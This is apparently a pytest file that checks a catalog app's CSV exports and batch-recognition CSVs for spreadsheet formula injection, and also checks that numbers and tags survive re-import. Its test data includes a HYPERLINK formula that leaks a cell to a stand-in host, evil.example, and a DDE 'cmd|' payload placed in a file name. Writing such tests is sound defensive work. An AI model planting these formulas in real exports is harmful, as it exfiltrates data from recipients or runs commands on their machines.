"""CSV that a spreadsheet would run: formula injection through exported cells.

A material named `=HYPERLINK(...)` or a photo named `=cmd|...` must open as text in whoever's
spreadsheet receives the export, and a catalog export must still import back as it was: every
number to the last digit, every tag whole.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from httpx import AsyncClient

from kai.kit.spreadsheets import FORMULA_STARTS, CsvWriter, neutralise_cell, restore_cell
from kai.recognition import batches
from kai.runtime import Runtime
from tests.catalog.factories import create_category, create_material
from tests.catalog.test_imports import _run_queued_import
from tests.identity.factories import member

pytestmark = pytest.mark.database

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your discount")'
COMMAND = "-2+3+cmd|' /C calc'!A0"
NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start that is not a plain number."""
    return cell.startswith(FORMULA_STARTS) and re.fullmatch(NUMBER, cell) is None


async def test_a_catalog_export_opens_as_text_and_imports_back_as_it_was(
    runtime: Runtime, client: AsyncClient
) -> None:
    owner = await member(runtime, client)
    category = await create_category(
        client,
        owner,
        "Trims",
        properties=[
            {"key": "offset", "label": "Offset", "type": "number", "minimum": -100},
            {"key": "note", "label": "Note", "type": "text"},
        ],
    )
    hostile = {
        "code": "=1+1",
        "name": HYPERLINK,
        "description": "+SUM(A1:A9)",
        "manufacturer": "@SUM(1)",
        "supplier": COMMAND,
        "tags": ["=danger", "safe"],
        "properties": {"offset": -5, "note": "'=already quoted by its author"},
    }
    plain = {
        "code": "PLAIN-1",
        "name": "'-a name that starts with a quote",
        "description": "-",
        "properties": {"offset": 12.5, "note": "@home"},
    }
    for fields in (hostile, plain):
        await create_material(client, owner, category_id=category["id"], **fields)

    exported = await client.get("/api/v1/catalog/exports?format=csv", headers=owner.headers)

    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert not [cell for row in rows for cell in row if _runs_as_formula(cell)]
    by_code = {row["code"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    assert set(by_code) == {"'=1+1", "PLAIN-1"}
    written = by_code["'=1+1"]
    assert written["name"] == "'" + HYPERLINK
    assert written["supplier"] == "'" + COMMAND
    # A number is a number: nothing to run, so a spreadsheet sees -5, not text.
    assert written["properties.offset"] == "-5"
    assert written["properties.note"] == "''=already quoted by its author"

    before = await _materials(client, owner)
    dry = await client.post(
        "/api/v1/catalog/imports",
        files={"file": ("catalog.csv", exported.content, "text/csv")},
        data={"dry_run": "true"},
        headers=owner.headers,
    )
    assert dry.json()["error_count"] == 0, dry.text
    started = await client.post(
        "/api/v1/catalog/imports",
        files={"file": ("catalog.csv", exported.content, "text/csv")},
        headers=owner.headers,
    )
    report = await _run_queued_import(runtime, owner, started.json()["job"]["id"])
    assert (report["unchanged"], report["updated"], report["created"]) == (2, 0, 0), report
    assert await _materials(client, owner) == before
    assert before["=1+1"]["name"] == HYPERLINK
    assert before["=1+1"]["properties"]["offset"] == -5


# What `:g` once made of them: 1.5e+06 and 1e-05 (which the import refused), 1234.57.
EXACT_NUMBERS = (1500000.0, 0.00001, 1234.5678)


async def _reimport(runtime: Runtime, client: AsyncClient, owner: Any, content: bytes) -> Any:
    started = await client.post(
        "/api/v1/catalog/imports",
        files={"file": ("catalog.csv", content, "text/csv")},
        headers=owner.headers,
    )
    assert started.status_code == 202, started.text
    return await _run_queued_import(runtime, owner, started.json()["job"]["id"])


async def test_numbers_dimensions_and_tags_come_back_from_an_export_exactly(
    runtime: Runtime, client: AsyncClient
) -> None:
    owner = await member(runtime, client)
    category = await create_category(
        client,
        owner,
        "Panels",
        properties=[
            {"key": "weight", "label": "Weight", "type": "number", "unit": "g"},
            {"key": "ratio", "label": "Ratio", "type": "number"},
            {"key": "size", "label": "Size", "type": "dimensions", "unit": "mm"},
        ],
    )
    for number, value in enumerate(EXACT_NUMBERS):
        sides = {"length": value, "width": value, "thickness": value}
        await create_material(
            client,
            owner,
            category_id=category["id"],
            code=f"N-{number}",
            tags=["grey stone", "r&d, phase 2", "50/50"],
            properties={"weight": value, "ratio": value, "size": sides},
        )
    before = await _materials(client, owner)

    exported = await client.get("/api/v1/catalog/exports?format=csv", headers=owner.headers)

    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    assert [rows[f"N-{n}"]["properties.ratio"] for n in range(3)] == [
        "1500000",
        "0.00001",
        "1234.5678",
    ]
    assert rows["N-2"]["properties.size"] == "1234.5678x1234.5678x1234.5678 mm"
    report = await _reimport(runtime, client, owner, exported.content)
    assert (report["unchanged"], report["error_count"]) == (3, 0), report
    after = await _materials(client, owner)
    assert after == before
    assert [after[f"N-{n}"]["properties"]["ratio"] for n in range(3)] == list(EXACT_NUMBERS)
    assert after["N-0"]["tags"] == ["grey stone", "r&d, phase 2", "50/50"]


@pytest.mark.parametrize("tag", ["indoor;outdoor", "a | b"])
async def test_a_tag_that_an_export_would_split_in_two_is_refused_when_written(
    runtime: Runtime, client: AsyncClient, tag: str
) -> None:
    owner = await member(runtime, client)
    material = await create_material(client, owner, code="T-1", tags=["plain"])

    created = await client.post(
        "/api/v1/materials", json={"name": "Tile", "code": "T-2", "tags": [tag]},
        headers=owner.headers,
    )  # fmt: skip
    changed = await client.patch(
        f"/api/v1/materials/{material['id']}", json={"tags": ["plain", tag]},
        headers={**owner.headers, "If-Match": f'"{material["version"]}"'},
    )  # fmt: skip

    for refused in (created, changed):
        assert refused.status_code == 422, refused.text
        assert "cannot contain ';' or '|'" in refused.text
    assert (await _materials(client, owner))["T-1"]["tags"] == ["plain"]


async def test_numbers_written_with_an_exponent_are_read(
    runtime: Runtime, client: AsyncClient
) -> None:
    # As earlier exports and other programs write them.
    owner = await member(runtime, client)
    await create_category(
        client,
        owner,
        "Panels",
        properties=[
            {"key": "weight", "label": "Weight", "type": "number", "unit": "g"},
            {"key": "size", "label": "Size", "type": "dimensions", "unit": "mm"},
        ],
    )
    content = (
        b"code,name,category,properties.weight,properties.size\n"
        b"E-1,One,Panels,1.5e+06,1e-05x2E3\n"
        b"E-2,Two,Panels,2.5E-3 kg,1.5e+06x1x1\n"
    )
    report = await _reimport(runtime, client, owner, content)
    assert (report["created"], report["error_count"]) == (2, 0), report

    stored = await _materials(client, owner)
    assert stored["E-1"]["properties"] == {
        "weight": {"value": 1500000.0, "unit": "g"},
        "size": {"length": 0.00001, "width": 2000.0, "unit": "mm"},
    }
    assert stored["E-2"]["properties"]["weight"] == {"value": 2.5, "unit": "g"}


async def _materials(client: AsyncClient, owner: Any) -> dict[str, dict[str, Any]]:
    page = await client.get("/api/v1/materials?limit=100", headers=owner.headers)
    keep = ("name", "description", "manufacturer", "supplier", "tags", "properties", "version")
    return {item["code"]: {key: item[key] for key in keep} for item in page.json()["items"]}


def test_batch_results_as_csv_open_as_text() -> None:
    row: dict[str, Any] = {
        "position": 1,
        "file_name": "=cmd|' /C calc'!A0.jpg",
        "status": "recognized",
        "error": None,
        "recognition_id": "8a0f6f0e-0000-4000-8000-000000000000",
        "label": "@SUM(1)",
        "confidence": 0.93,
        "unknown": False,
        "unknown_reason": None,
        "similar_material_id": None,
        "similar_name": "\t=1+1",
        "similar_code": "+SKU-1",
        "similar_score": -0.25,
    }

    written = list(csv.DictReader(io.StringIO(batches.results_csv([row]))))

    assert not [cell for cell in written[0].values() if _runs_as_formula(cell)]
    assert written[0]["file_name"] == "'=cmd|' /C calc'!A0.jpg"
    assert written[0]["similar_name"] == "'\t=1+1"
    assert written[0]["similar_code"] == "'+SKU-1"
    assert (written[0]["confidence"], written[0]["similar_score"]) == ("0.93", "-0.25")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-", "@x", "\tx", "\rx", "'=x", "''=x", "'x", "'", "", "-5", "+1.5e3",
     "-2+3", "plain", "'-5", "1-2", " =x"],
)  # fmt: skip
def test_every_cell_reads_back_as_it_was_written(value: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([value])
    cell = next(csv.reader(io.StringIO(out.getvalue())))

    assert not _runs_as_formula(cell[0])
    assert restore_cell(cell[0]) == value
    assert neutralise_cell(value) == cell[0]
